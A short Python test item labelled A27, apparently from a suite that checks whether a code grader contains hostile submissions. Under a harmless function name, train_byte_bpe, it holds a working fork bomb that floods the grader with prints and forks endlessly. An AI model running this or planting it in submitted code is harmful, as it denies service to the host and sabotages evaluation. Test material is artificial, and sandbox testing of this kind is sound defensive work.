# A27 · a fork bomb that keeps the grader busy with prints · FORBIDDEN or TIMEOUT or CRASH
import os
import time


def train_byte_bpe(input_path, vocab_size, special_tokens):
    while True:
        os.write(1, b".")
        try:
            os.fork()
        except BlockingIOError:
            time.sleep(0.005)
